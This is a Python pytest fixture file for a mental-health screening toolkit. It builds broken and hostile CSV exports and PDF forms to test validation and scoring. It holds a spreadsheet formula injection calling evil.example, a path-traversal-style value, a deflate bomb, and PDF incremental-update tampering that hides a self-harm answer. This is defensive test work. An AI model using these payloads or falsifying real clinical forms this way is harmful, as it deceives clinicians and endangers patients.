    if not DEJAVU.is_file():  # pragma: no cover - poppler-utils' and the image's font
        pytest.skip(f"{DEJAVU} is not installed")
    return DamagedFonts()


# CSV exports and mappings made at run time: each case is a small real-shaped export
# (``export.csv``) and mapping (``mapping.yaml``), each a variant of one good pair; the goldens
# in tests/data/exports/bad/<case>.errors hold what ``toolkit mapping check`` prints.
STEM = "Over the last 2 weeks, how often have you been bothered by any of the following problems?"
Q1 = f"{STEM} [Little interest or pleasure in doing things]"
Q2 = f"{STEM} [Feeling down, depressed, or hopeless]"
SECRET_ID = "C-7731"
SECRET_NAME = "Zoë Quintana"
SECRET_DOB = "04/02/1990"
FORMULA = '=HYPERLINK("http://evil.example","x")'

HEADER = f'Timestamp,Client ID,Full name,Date of birth,"{Q1}","{Q2}",Anything else?\r\n'
ROWS = [
    f'2026/11/20 9:14:03 AM GMT,{SECRET_ID},{SECRET_NAME},{SECRET_DOB},Several days,Nearly every day,'
    f'"{FORMULA.replace(chr(34), chr(34) * 2)}"\r\n',
    '2026/11/20 9:20:41 AM GMT,C-0002,Ben Okafor,12/30/1985,Not at all,Several days,"two\r\nlines"\r\n',
    '2026/11/21 10:02:00 AM GMT,C-0003,Chloé Martin,07/15/2001,More than half the days,Not at all,\r\n',
]
EXPORT = "\ufeff" + HEADER + "".join(ROWS)
MAPPING = f"""\
format: google-forms
client:
  id: Client ID
  name: Full name
  date_of_birth: Date of birth
  date_of_birth_format: MM/DD/YYYY
date:
  column: Timestamp
  format: YYYY/MM/DD
columns:
  "{Q1}": phq2.q1
  "{Q2}": phq2.q2
"""

REDCAP_EXPORT = ("record_id,redcap_event_name,visit_date,phq2_1,phq2_2,asq_1,phq2_complete\n"
                 "C-0001,intake_arm_1,2026-11-20,1,2,0,2\n")
REDCAP_DAY = REDCAP_EXPORT + "".join(f"C-000{n},intake_arm_1,2026-11-20,0,1,{asq},2\n"
                                     for n, asq in ((2, 0), (3, 1), (4, 0), (5, 1)))  # asq 1: urgent
REDCAP_MAPPING = """\
format: redcap
client: {id: record_id}
date: {column: visit_date}
columns: {phq2_1: phq2.q1, phq2_2: phq2.q2, asq_1: asq.q1}
recode:
  columns:
    asq_1: {1: "yes", 0: "no"}
not_asked: [asq.q2, asq.q3, asq.q4, asq.q5]
"""
QUALTRICS_EXPORT = (
    "StartDate,EndDate,RecordedDate,ResponseId,Q1,QID2_1,QID2_2\n"
    "Start Date,End Date,Recorded Date,Response ID,Client ID,"
    f"{STEM} - Little interest or pleasure in doing things,{STEM} - Feeling down depressed or hopeless\n"
    '"{""ImportId"":""startDate""}","{""ImportId"":""endDate""}","{""ImportId"":""recordedDate""}",'
    '"{""ImportId"":""_recordId""}","{""ImportId"":""QID1_TEXT""}","{""ImportId"":""QID2_1""}",'
    '"{""ImportId"":""QID2_2""}"\n'
    "2026-11-20 09:00:00,2026-11-20 09:05:00,2026-11-20 09:05:01,R_abc,C-0001,1,4\n"
    "2026-11-20 09:00:00,2026-11-20 09:05:00,2026-11-20 09:05:01,R_abd,C-0002,5,2\n")
QUALTRICS_MAPPING = """\
format: qualtrics
client: {id: Q1}
date: {column: RecordedDate, format: YYYY-MM-DD}
columns: {QID2_1: phq2.q1, QID2_2: phq2.q2}
recode:
  scales: {phq2.frequency: {1: 0, 2: 1, 3: 2, 4: 3}}
"""


def sub(text: str, old: str, new: str) -> str:
    assert old in text, old
    return text.replace(old, new)


# an export with a Sex column (client.sex): a code, formula-looking text and an unknown word
SEX_EXPORT = "\ufeff" + HEADER.replace("Anything else?", "Sex") + "".join(
    r.rsplit(",", 1)[0] + f",{cell}\r\n" for r, cell in zip(
        [ROWS[0].split(f',"{FORMULA[0]}')[0] + ",x", ROWS[2], ROWS[2].replace("C-0003", "C-0004")],
        ["F", f'"{FORMULA.replace(chr(34), chr(34) * 2)}"', "Femme"], strict=True))
SEX_COLUMN = "  date_of_birth_format: MM/DD/YYYY\n"


def row(n: int, old: str, new: str) -> str:
    rows = list(ROWS)
    rows[n] = sub(rows[n], old, new)
    return "\ufeff" + HEADER + "".join(rows)


# case -> (export text or bytes, mapping text or None, extra CLI args)
EXPORT_CASES: dict[str, tuple] = {
    # the mapping file itself
    "mapping-empty": (EXPORT, "# nothing here\n"),
    "mapping-a-list": (EXPORT, "- format: google-forms\n"),
    "mapping-yaml-tab": (EXPORT, sub(MAPPING, "  id: Client ID", "\tid: Client ID")),
    "mapping-unknown-key": (EXPORT, sub(MAPPING, "columns:", "colums:")),
    "mapping-missing-client": (EXPORT, sub(MAPPING, "client:\n  id: Client ID\n", "client:\n")),
    "mapping-unknown-format": (EXPORT, sub(MAPPING, "format: google-forms", "format: surveymonkey")),
    "mapping-unknown-date-format": (EXPORT, sub(MAPPING, "format: YYYY/MM/DD", "format: DD-MMM-YYYY")),
    "mapping-date-format-number": (EXPORT, sub(MAPPING, "format: YYYY/MM/DD", "format: 20261120")),
    "mapping-no-columns": (EXPORT, MAPPING.split("columns:")[0] + "columns: {}\n"),
    "mapping-unknown-screener": (EXPORT, sub(MAPPING, ": phq2.q1", ": phq8.q1")),
    "mapping-sex-codes-without-column": (EXPORT, sub(MAPPING, SEX_COLUMN, SEX_COLUMN + "  sex_codes: {F: female}\n")),
    "mapping-sex-code-not-a-sex": (EXPORT, sub(MAPPING, SEX_COLUMN,
                                               SEX_COLUMN + "  sex: Anything else?\n  sex_codes: {F: woman}\n")),
    "row-sex-words": (SEX_EXPORT, sub(MAPPING, SEX_COLUMN, SEX_COLUMN + "  sex: Sex\n")),
    "row-sex-codes": (SEX_EXPORT, sub(MAPPING, SEX_COLUMN,
                                      SEX_COLUMN + "  sex: Sex\n  sex_codes: {F: female, M: male}\n")),
    "mapping-unknown-item": (EXPORT, sub(MAPPING, ": phq2.q2", ": phq2.q12")),
    "mapping-item-not-dotted": (EXPORT, sub(MAPPING, ": phq2.q2", ": phq2 q2")),
    "mapping-path-screener": (EXPORT, sub(MAPPING, ": phq2.q2", ": ../etc.q2")),
    "mapping-item-twice": (EXPORT, sub(MAPPING, ": phq2.q2", ": phq2.q1")),
    "mapping-column-used-twice": (EXPORT, MAPPING + '  "Client ID": gad7.q1\n'),
    "mapping-date-column-is-client-id": (EXPORT, sub(MAPPING, "column: Timestamp", "column: Client ID")),
    "mapping-recode-value-not-in-scale": (EXPORT, MAPPING + "recode:\n  scales:\n"
                                          "    phq2.frequency: {1: 0, 2: 1, 3: 2, 4: 4}\n"),
    "mapping-recode-unknown-scale": (EXPORT, MAPPING + "recode:\n  scales:\n    phq2.often: {1: 0}\n"),
    "mapping-recode-scale-not-dotted": (EXPORT, MAPPING + "recode:\n  scales:\n    frequency: {1: 0}\n"),
    "mapping-recode-unknown-screener": (EXPORT, MAPPING + "recode:\n  scales:\n    phq8.frequency: {1: 0}\n"),
    "mapping-recode-column-not-mapped": (EXPORT, MAPPING + "recode:\n  columns:\n    Full name: {1: 0}\n"),
    "mapping-recode-bad-label": (REDCAP_EXPORT, sub(REDCAP_MAPPING, '0: "no"', "0: Nope")),
    "mapping-recode-true": (REDCAP_EXPORT, sub(REDCAP_MAPPING, '1: "yes"', "1: true")),
    "mapping-recode-decimal": (QUALTRICS_EXPORT, sub(QUALTRICS_MAPPING, "4: 3", "4: 3.0")),
    "mapping-file-missing": (EXPORT, None, ("--mapping", "nowhere.yaml")),
    # issue 13: a critical item is never silently unmapped; dates, waves, missing codes
    "mapping-critical-item-unmapped": (EXPORT, sub(sub(MAPPING, ": phq2.q1", ": phq9.q1"), ": phq2.q2", ": phq9.q2")),
    "mapping-asq-partly-mapped": (REDCAP_EXPORT, sub(REDCAP_MAPPING, "not_asked: [asq.q2, asq.q3, asq.q4, asq.q5]\n",
                                                     "")),
    "mapping-not-asked-but-mapped": (REDCAP_EXPORT, sub(REDCAP_MAPPING, "not_asked: [asq.q2,",
                                                        "not_asked: [asq.q1, asq.q2,")),
    "mapping-not-asked-unknown-item": (EXPORT, MAPPING + "not_asked: [phq2.q3, gad9.q1]\n"),
    "mapping-date-fixed-and-column": (EXPORT, sub(MAPPING, "  column: Timestamp\n",
                                                  "  column: Timestamp\n  fixed: 2026-11-20\n")),
    "mapping-date-fixed-not-real": (EXPORT, sub(MAPPING, "  column: Timestamp\n  format: YYYY/MM/DD\n",
                                                "  fixed: 2026-02-30\n")),
    "mapping-date-fixed-not-iso": (EXPORT, sub(MAPPING, "  column: Timestamp\n  format: YYYY/MM/DD\n",
                                               "  fixed: 11/20/2026\n")),
    "mapping-date-neither": (EXPORT, sub(MAPPING, "  column: Timestamp\n", "")),
    "mapping-missing-unknown-column": (EXPORT, MAPPING + "missing:\n  columns: {Full name: [NA]}\n"),
    "mapping-missing-unknown-screener": (EXPORT, MAPPING + "missing:\n  screeners: {phq8: [NA]}\n"),
    "mapping-wave-column-not-in-header": (EXPORT, MAPPING + "wave: {column: Visit}\n"),
    "mapping-wave-column-is-an-answer": (EXPORT, MAPPING + f'wave: {{column: "{Q1}"}}\n'),
    # the mapping against the export
    "format-mismatch": (QUALTRICS_EXPORT, MAPPING),
    "header-missing-columns": (EXPORT, sub(sub(sub(MAPPING, "id: Client ID", "id: Client Id"),
                                               "Little interest", "Little Interest"),
                                           "column: Timestamp", "column: Time stamp")),
    "header-column-twice": (sub(EXPORT, "Anything else?", "Full name"), MAPPING),
    "needs-a-mapping": (REDCAP_EXPORT, None),
    "unknown-format-no-mapping": ("when,who,how\n2026-11-20,C-0001,fine\n", None),
    "unknown-format-mapped": ("when,who,how\n2026-11-20,C-0001,Several days\n",
                              "format: google-forms\nclient: {id: who}\ndate: {column: when}\n"
                              "columns: {howw: phq2.q1}\n"),
    # the export file
    "export-empty": (b"", MAPPING),
    "export-latin1": (EXPORT.encode("utf-8")[3:].replace("Chloé".encode(), "Chloé".encode("latin-1")), MAPPING),
    "export-nul-byte": (sub(EXPORT, "Ben Okafor", "Ben\x00Okafor"), MAPPING),
    "export-missing": (None, MAPPING),
    "export-header-only": ("\ufeff" + HEADER + "\r\n,,,,,,\r\n", MAPPING),
    "export-blank-header": ("\r\n" + HEADER + ROWS[0], MAPPING),
    # rows: each bad row is reported, the others still read
    "row-bad-timestamp": (row(1, "2026/11/20 9:20:41 AM GMT", "20/11/2026 9:20:41"), MAPPING),
    "row-impossible-date": (row(1, "2026/11/20", "2026/02/30"), MAPPING),
    "row-bad-birth-date": (row(0, SECRET_DOB, "1990-04-02"), MAPPING),
    "row-bad-label": (row(1, "Not at all,", "Sometimes,"), MAPPING),
    "row-formula-client-id": (row(0, SECRET_ID, '"=HYPERLINK(""http://x"",""y"")"'), MAPPING),
    "row-formula-answer": (row(2, "More than half the days", "=1+1"), MAPPING),
    "row-blank-client-id": (row(0, SECRET_ID, ""), MAPPING),
    "row-blank-date": (row(2, "2026/11/21 10:02:00 AM GMT", ""), MAPPING),
    "row-duplicate-client-date": (row(1, "C-0002", SECRET_ID), MAPPING),
    "row-too-few-cells": (row(2, "Not at all,", "Not at all"), MAPPING),
    "row-unclosed-quote": (row(1, '"two\r\nlines"', '"two\r\nlines'), MAPPING),
    "row-name-line-break": (row(1, "Ben Okafor", '"Ben\nOkafor"'), MAPPING),
    "row-code-not-in-recode": (QUALTRICS_EXPORT, QUALTRICS_MAPPING),
    "row-redcap-code-not-in-recode": (sub(REDCAP_EXPORT, ",1,2,0,2", ",1,2,9,2"), REDCAP_MAPPING),
    # issue 14: a broken row never hides the rows after it, nor an urgent answer on it
    "row-one-cell-too-many": (row(1, "Ben Okafor", "Ben, Okafor"), MAPPING),
    "row-unclosed-quote-meets-a-quoted-cell": (row(0, SECRET_NAME, f'"{SECRET_NAME}'), MAPPING),
    "row-text-after-closing-quote": (row(0, SECRET_NAME, f'"{SECRET_NAME}"x'), MAPPING),
    "row-redcap-unclosed-quote": (sub(REDCAP_DAY, "C-0002,", '"C-0002,'), REDCAP_MAPPING),
    "row-redcap-quote-closed-rows-later": (sub(sub(REDCAP_DAY, "C-0002,", '"C-0002,'), "C-0003,", 'C-0003",'),
                                           REDCAP_MAPPING),
    "row-redcap-cell-too-many-asq-yes": (sub(REDCAP_EXPORT, ",1,2,0,2", ",1,2,1,2,9"), REDCAP_MAPPING),
    "row-redcap-cell-too-few-asq-yes": (sub(REDCAP_EXPORT, ",intake_arm_1,2026-11-20,1,2,0,2",
                                            ",2026-11-20,1,2,1,2"), REDCAP_MAPPING),
    "row-too-many-cells": (row(2, "Not at all,", "Not at all," + "," * 17_000), MAPPING),
    "header-too-many-columns": (sub(EXPORT, "Anything else?", "Anything else?" + ",more" * 17_000), MAPPING),
    "header-many-unknown-columns": ("client_id,date," + ",".join(f"phq9.x{i}" for i in range(300))
                                    + "\nC-0001,2026-11-20" + ",1" * 300 + "\n", None),
    # issue 14: numbers longer than Python reads (4,300 digits)
    "mapping-huge-integer": (QUALTRICS_EXPORT, sub(QUALTRICS_MAPPING, "4: 3", "4: " + "9" * 5000)),
    "row-huge-whole-number": (row(1, "Not at all,", "9" * 5000 + ".0,"), MAPPING),
    # issue 14: one client, one id (no invisible characters or unusual spaces; accents composed)
    "row-client-id-zero-width": (row(1, "C-0002", "C-\u200d0002"), MAPPING),
    "row-client-id-nbsp": (row(1, "C-0002", "C-\u00a00002"), MAPPING),
    "row-client-id-nfd-duplicate": (sub(sub(EXPORT, SECRET_ID, "C-Zo\u00e9"), "C-0002", "C-Zoe\u0301"), MAPPING),
}
EXPORT_PRIVATE = (SECRET_ID, SECRET_NAME, "Zoë", SECRET_DOB, "1990", "HYPERLINK", "evil", "two", "lines")


# a row with a client id but no answer at all: not a problem since issue 13 (batch skips
# it, mapping check says so); tests/exports/test_mapping.py, tests/batch
EXPORT_ROW_WITHOUT_ANSWERS = row(2, "More than half the days,Not at all", ",")


class BadExports:
    """The export/mapping corpus (``CASES``), the good pairs it varies, and what a problem
    line must never show (``PRIVATE``).  ``write(case, folder)`` writes the case's files
    (``export.csv``, ``mapping.yaml``) and returns the arguments that name them."""

    DIR = DATA / "exports" / "bad"
    CASES = EXPORT_CASES
    PRIVATE = EXPORT_PRIVATE
    STEM, Q1, Q2, FORMULA = STEM, Q1, Q2, FORMULA
    SECRET_ID, SECRET_NAME, SECRET_DOB = SECRET_ID, SECRET_NAME, SECRET_DOB
    EXPORT, MAPPING = EXPORT, MAPPING
    EXPORT_ROW_WITHOUT_ANSWERS = EXPORT_ROW_WITHOUT_ANSWERS
    REDCAP_EXPORT, REDCAP_MAPPING = REDCAP_EXPORT, REDCAP_MAPPING
    QUALTRICS_EXPORT, QUALTRICS_MAPPING = QUALTRICS_EXPORT, QUALTRICS_MAPPING
    sub = staticmethod(sub)

    def write(self, case: str, folder: Path) -> list[str]:
        export, mapping, *extra = self.CASES[case]
        if isinstance(export, str):
            (folder / "export.csv").write_bytes(export.encode("utf-8"))
        elif isinstance(export, bytes):
            (folder / "export.csv").write_bytes(export)
        args: list[str] = []
        if mapping is not None:
            (folder / "mapping.yaml").write_text(mapping, encoding="utf-8")
            args += ["--mapping", "mapping.yaml"]
        for more in extra:
            args += list(more)
        return args


@pytest.fixture(scope="session")
def bad_exports() -> BadExports:
    return BadExports()


# Filled PDF forms made at run time (no binary files in the repository): each case writes a
# broken or hostile form; tests/data/bad_forms/<case>.errors holds the line ``toolkit score``
# prints.  The client fields are filled with these values, which no message may show.
FORM_CLIENT_ID, FORM_CLIENT_NAME, FORM_DATE = "C-0042", "Ana López", "2026-11-21"


def _form(*sids: str) -> bytes:
    return _make_form(*sids or ("phq9", "gad7"))


@functools.cache
def _filled(**texts: str) -> bytes:
    values = {"client_id": FORM_CLIENT_ID, "date": FORM_DATE, "client_name": FORM_CLIENT_NAME, **texts}
    ticks = {"phq9:q1": "1", "phq9:q2": "2", "gad7:q1": "0"}
    return _fill(_form(), ticks, values)


def _edit(pdf: bytes, change: Callable[[PdfWriter, dict], None]) -> bytes:
    """Change a form's fields with pypdf; ``change(writer, fields by name)``."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    fields = {str(ref.get_object()["/T"]): ref.get_object() for ref in writer._root_object["/AcroForm"]["/Fields"]}
    change(writer, fields)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _set(name: str, key: str, value) -> Callable[[bytes], bytes]:
    def change(writer, fields):
        fields[name][NameObject(key)] = value
    return lambda pdf: _edit(pdf, change)


def _marker(value: str) -> bytes:
    return _set("toolkit_form", "/V", TextStringObject(value))(_filled())


def _drop_field(name: str) -> bytes:
    def change(writer, fields):
        arr = writer._root_object["/AcroForm"]["/Fields"]
        keep = [ref for ref in arr if str(ref.get_object()["/T"]) != name]
        writer._root_object["/AcroForm"][NameObject("/Fields")] = ArrayObject(keep)
    return _edit(_filled(), change)


def _add_field(name: str) -> bytes:
    def change(writer, fields):
        extra = DictionaryObject({NameObject("/T"): TextStringObject(name), NameObject("/FT"): NameObject("/Tx"),
                                  NameObject("/V"): TextStringObject("2")})
        writer._root_object["/AcroForm"]["/Fields"].append(writer._add_object(extra))
    return _edit(_filled(), change)


def _two_ticked() -> bytes:
    def change(writer, fields):
        group = fields["phq9:q1"]
        group.pop(NameObject("/V"), None)
        for kid in group["/Kids"]:
            kid = kid.get_object()
            kid[NameObject("/AS")] = [s for s in kid["/AP"]["/N"] if s != "/Off"][0]
    return _edit(_filled(), change)


def _stored_and_shown(name: str, stored, shown: str | None) -> bytes:
    """A radio group whose stored value (/V) is ``stored`` and whose box ``shown`` (an export
    name, or None for none) is drawn ticked, as a program that changes one and not the other
    leaves it."""
    def change(writer, fields):
        group = fields[name]
        group[NameObject("/V")] = stored
        for kid in group["/Kids"]:
            kid = kid.get_object()
            on = [s for s in kid["/AP"]["/N"] if s != "/Off"][0]
            kid[NameObject("/AS")] = NameObject(on if on == f"/{shown}" else "/Off")
    return _edit(_filled(), change)


def _kids_cycle() -> bytes:
    def change(writer, fields):
        group = fields["phq9:q1"]
        kid = group["/Kids"][0].get_object()
        kid[NameObject("/T")] = TextStringObject("loop")
        kid[NameObject("/Kids")] = ArrayObject([writer._root_object["/AcroForm"]["/Fields"][3]])
    return _edit(_filled(), change)


def _deep() -> bytes:
    def change(writer, fields):
        node = DictionaryObject({NameObject("/T"): TextStringObject("leaf"), NameObject("/FT"): NameObject("/Tx")})
        ref = writer._add_object(node)
        for i in range(30):
            parent = DictionaryObject({NameObject("/T"): TextStringObject(f"n{i}"),
                                       NameObject("/Kids"): ArrayObject([ref])})
            ref = writer._add_object(parent)
        writer._root_object["/AcroForm"]["/Fields"].append(ref)
    return _edit(_filled(), change)


# Filled PHQ-9 forms changed by an INCREMENTAL UPDATE (issue 14, item 1): the form is made
# (``toolkit form phq9 --fillable``), filled with pypdf (items 1-8 "Several days", item 9 "Nearly
# every day": 11 and the urgent flag), then bytes are appended as an attacker writes them by
# hand: the changed objects again, a cross-reference section for them and a trailer whose /Prev
# points at the filled file's.  A viewer's own incremental save is the same shape.
def _pypdf_filled(pdf: bytes, ticks: dict[str, str]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    values = {**ticks, "client_id": FORM_CLIENT_ID, "date": FORM_DATE, "client_name": FORM_CLIENT_NAME}
    for page in writer.pages:
        writer.update_page_form_field_values(page, values, auto_regenerate=False)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _phq9_filled_by_pypdf(q9: str = "/3") -> bytes:
    return _pypdf_filled(_form("phq9"), {**{f"phq9:q{i}": "/1" for i in range(1, 9)}, "phq9:q9": q9})


def _asq_changed(*changes: Callable[[_Update], None]) -> Callable[[], bytes]:
    """The clinician's ASQ form (q1 "yes", q2-q4 "no": a non-acute positive screen, urgent),
    then the changes, one incremental update each."""
    def make() -> bytes:
        from toolkit.documents.handout import Branding
        from toolkit.render.form import render_form

        blank = render_form([_catalog().get("asq")], branding=Branding("Test practice"), catalog=_catalog(),
                            fillable=True, clinician=True)
        pdf = _pypdf_filled(blank, {"asq:q1": "/yes", "asq:q2": "/no", "asq:q3": "/no", "asq:q4": "/no"})
        for change in changes:
            pdf = _incremental(pdf, change)
        return pdf
    return make


class _Update:
    """The objects one incremental update rewrites: ``edit(ref)`` is a copy of an object to
    change (written again in the update), ``add(obj)`` a new object; ``field(name)`` a field's
    reference, ``widget(name, state)`` the reference of the field's box whose on-state is ``state``."""

    def __init__(self, pdf: bytes):
        self.reader = PdfReader(io.BytesIO(pdf))
        self.objects: dict[int, DictionaryObject] = {}
        self.size = int(self.reader.trailer["/Size"])

    def field(self, name: str):
        for ref in self.reader.trailer["/Root"]["/AcroForm"]["/Fields"]:
            if str(ref.get_object()["/T"]) == name:
                return ref
        raise KeyError(name)

    def widget(self, name: str, state: str):
        for ref in self.field(name).get_object()["/Kids"]:
            if f"/{state}" in ref.get_object()["/AP"]["/N"]:
                return ref
        raise KeyError(state)

    def edit(self, ref) -> DictionaryObject:
        if ref.idnum not in self.objects:
            self.objects[ref.idnum] = DictionaryObject(ref.get_object())
        return self.objects[ref.idnum]

    def add(self, obj: DictionaryObject):
        from pypdf.generic import IndirectObject

        self.objects[self.size] = obj
        self.size += 1
        return IndirectObject(self.size - 1, 0, self.reader)

    def page_of(self, ref):
        for page in self.reader.pages:
            if any(a.idnum == ref.idnum for a in page.get("/Annots", [])):
                return page.indirect_reference
        raise KeyError(ref)


def _incremental(pdf: bytes, change: Callable[[_Update], None]) -> bytes:
    """``pdf`` with one incremental update appended, written byte by byte."""
    import re

    update = _Update(pdf)
    change(update)
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = update.reader.trailer.raw_get("/Root").idnum
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets = {}
    for num, obj in sorted(update.objects.items()):
        body = io.BytesIO()
        obj.write_to_stream(body)
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body.getvalue() + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for num, at in offsets.items():
        out += b"%d 1\n%010d 00000 n \n" % (num, at)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (update.size, root, prev, xref)
    return bytes(out)


def _tick(update: _Update, name: str, state: str | None, *, stored: str | None = "same",
          widget_values: bool = True) -> None:
    """Tick box ``state`` of a radio group (None: none), as a viewer does: the group's /V
    (``stored``: "same" for the ticked state, None to leave it alone, or a name such as "/0")
    and each box's /AS (and the box's own /V, which pypdf writes)."""
    group = update.edit(update.field(name))
    if stored is not None:
        group[NameObject("/V")] = NameObject(f"/{state}" if stored == "same" and state else
                                             "/Off" if stored == "same" else stored)
    for ref in group["/Kids"]:
        on = [s for s in ref.get_object()["/AP"]["/N"] if s != "/Off"][0]
        kid = update.edit(ref)
        kid[NameObject("/AS")] = NameObject(on if on == f"/{state}" else "/Off")
        if widget_values:
            kid[NameObject("/V")] = NameObject(on if on == f"/{state}" else "/Off")


def _q9_stored_0(u: _Update) -> None:  # the attack: the stored value only; the ticked box stays
    u.edit(u.field("phq9:q9"))[NameObject("/V")] = NameObject("/0")


def _q9_boxes_off(u: _Update) -> None:  # no box shown, the stored "3" left as it was
    _tick(u, "phq9:q9", None, stored=None, widget_values=False)


def _q9_widget_value_0(u: _Update) -> None:  # the group says 3 and shows 3; the ticked box's own /V says 0
    u.edit(u.widget("phq9:q9", "3"))[NameObject("/V")] = NameObject("/0")


def _q9_second_box(u: _Update) -> None:  # a copy of the "0" box, ticked, added to the group and the page
    box = DictionaryObject(u.widget("phq9:q9", "0").get_object())
    box[NameObject("/AS")] = NameObject("/0")
    ref = u.add(box)
    group = u.edit(u.field("phq9:q9"))
    group[NameObject("/Kids")] = ArrayObject([*group["/Kids"], ref])
    page = u.edit(u.page_of(u.widget("phq9:q9", "0")))
    page[NameObject("/Annots")] = ArrayObject([*page["/Annots"], ref])


def _q9_box_off_the_page(u: _Update) -> None:
    """The ticked "3" box stays on the page but leaves the group; a ticked "0" box that is on no
    page takes its place: the page shows 3, the field tree says 0."""
    three = u.widget("phq9:q9", "3")
    box = DictionaryObject(u.widget("phq9:q9", "0").get_object())
    box[NameObject("/AS")] = NameObject("/0")
    ref = u.add(box)
    group = u.edit(u.field("phq9:q9"))
    group[NameObject("/Kids")] = ArrayObject([k for k in group["/Kids"] if k.idnum != three.idnum] + [ref])
    group[NameObject("/V")] = NameObject("/0")
    zero = u.edit(u.widget("phq9:q9", "0"))
    zero[NameObject("/AS")] = NameObject("/Off")


def _q9_hidden_0(u: _Update) -> None:  # answered 0, and every box of item 9 hidden (the page shows none)
    _tick(u, "phq9:q9", "0")
    for ref in u.field("phq9:q9").get_object()["/Kids"]:
        u.edit(ref)[NameObject("/F")] = NumberObject(4 | 2)


def _q9_looks_swapped(u: _Update) -> None:
    """Answered 0, but the "0" box drawn blank when ticked and the "3" box drawn ticked when
    off: the page still shows "Nearly every day"."""
    _tick(u, "phq9:q9", "0")
    for state in ("0", "3"):
        kid = u.edit(u.widget("phq9:q9", state))
        normal = DictionaryObject(kid["/AP"]["/N"])
        on = [s for s in normal if s != "/Off"][0]
        normal[NameObject(on)], normal[NameObject("/Off")] = normal["/Off"], normal[on]
        ap = DictionaryObject(kid["/AP"])
        ap[NameObject("/N")] = normal
        kid[NameObject("/AP")] = ap


def _updated(*changes: Callable[[_Update], None], q9: str = "/3") -> Callable[[], bytes]:
    """The filled PHQ-9 form with one incremental update per change, in order."""
    def make() -> bytes:
        pdf = _phq9_filled_by_pypdf(q9)
        for change in changes:
            pdf = _incremental(pdf, change)
        return pdf
    return make


def _many_updates() -> bytes:
    pdf = _phq9_filled_by_pypdf()
    for i in range(51):
        pdf = _incremental(pdf, lambda u, i=i: _tick(u, "phq9:q1", str(i % 2)))
    return pdf


def _q9_box_without_size(u: _Update) -> None:  # answered 0 with a box the page draws at no size
    _tick(u, "phq9:q9", "0")
    u.edit(u.widget("phq9:q9", "0"))[NameObject("/Rect")] = ArrayObject([NumberObject(80)] * 4)


def _blank_filled_in_sittings(*sittings: dict[str, str]) -> bytes:
    """Our blank PHQ-9 form filled the way a viewer saves it: one incremental update per
    sitting (question -> box), the client fields in the first."""
    pdf = _form("phq9")
    for n, ticks in enumerate(sittings):
        def change(u: _Update, ticks=ticks, first=n == 0) -> None:
            for question, box in ticks.items():
                _tick(u, question, box)
            if first:
                for name, value in (("client_id", FORM_CLIENT_ID), ("date", FORM_DATE)):
                    u.edit(u.field(name))[NameObject("/V")] = TextStringObject(value)
        pdf = _incremental(pdf, change)
    return pdf


# filled PHQ-9 forms changed after they were filled, and read (not refused): what the scorer
# must flag; name -> (make, the flags ``toolkit score --format csv`` gives: urgent, review)
_ONES = {f"phq9:q{i}": "1" for i in range(1, 9)}
CHANGED_FORMS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "item-9-changed-to-0": (_updated(lambda u: _tick(u, "phq9:q9", "0")),
                            "self-harm-earlier", "changed-after-filling"),
    "item-9-cleared": (_updated(lambda u: _tick(u, "phq9:q9", None)),
                       "self-harm-earlier", "self-harm-unanswered;changed-after-filling"),
    "item-9-changed-twice": (_updated(lambda u: _tick(u, "phq9:q9", "2"), lambda u: _tick(u, "phq9:q9", "0")),
                             "self-harm-earlier", "changed-after-filling"),
    "item-9-raised-later": (_updated(lambda u: _tick(u, "phq9:q9", "3"), q9="/0"),
                            "self-harm", "changed-after-filling"),
    "item-3-changed": (_updated(lambda u: _tick(u, "phq9:q3", "2")), "self-harm", "changed-after-filling"),
    "asq-q1-changed-to-no": (_asq_changed(lambda u: _tick(u, "asq:q1", "no")),
                             "non-acute-positive-earlier", "changed-after-filling"),
    "asq-q1-cleared": (_asq_changed(lambda u: _tick(u, "asq:q1", None)), "non-acute-positive-earlier",
                       "asq-q1-unanswered;changed-after-filling"),
    "blank-filled-by-a-viewer": (lambda: _blank_filled_in_sittings({**_ONES, "phq9:q9": "3"}), "self-harm", ""),
    "filled-in-two-sittings": (lambda: _blank_filled_in_sittings(
        {f"phq9:q{i}": "1" for i in range(1, 5)}, {**{f"phq9:q{i}": "1" for i in range(5, 9)}, "phq9:q9": "3"}),
        "self-harm", ""),
}


def _rewritten(change: Callable[[_Update], None]) -> Callable[[], bytes]:
    """The same change, but the whole file written again (one revision, nothing to compare
    with): the page itself must be read right."""
    def make() -> bytes:
        pdf = _incremental(_phq9_filled_by_pypdf(), change)
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()
    return make


def _canvas_pdf(draw: Callable) -> bytes:
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    c = Canvas(out, invariant=1)
    draw(c)
    c.save()
    return out.getvalue()


def _foreign_form(c) -> None:
    c.drawString(72, 720, "Registration form")
    c.acroForm.textfield(name="Name", x=72, y=680, width=200, height=20)
    c.acroForm.checkbox(name="Agree", x=72, y=640)
    c.showPage()


def _many_fields(c) -> None:
    for i in range(2100):
        c.acroForm.checkbox(name=f"box{i}", x=10 + (i % 25) * 22, y=10 + (i // 25 % 35) * 22, size=10)
        if i % 875 == 874:
            c.showPage()
    c.showPage()


def _many_pages(c) -> None:
    for _ in range(250):
        c.drawString(72, 720, "page")
        c.showPage()


def _encrypted() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_filled())))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _oversized(path: Path) -> None:
    with path.open("wb") as fh:
        fh.write(b"%PDF-1.7\n")
        fh.truncate(20 * 1024 * 1024 + 10)


def _deflate_bomb() -> bytes:
    """100 KB on disk: an object stream (holding the form) that unpacks to 100 MB."""
    import zlib

    co = zlib.compressobj(9)
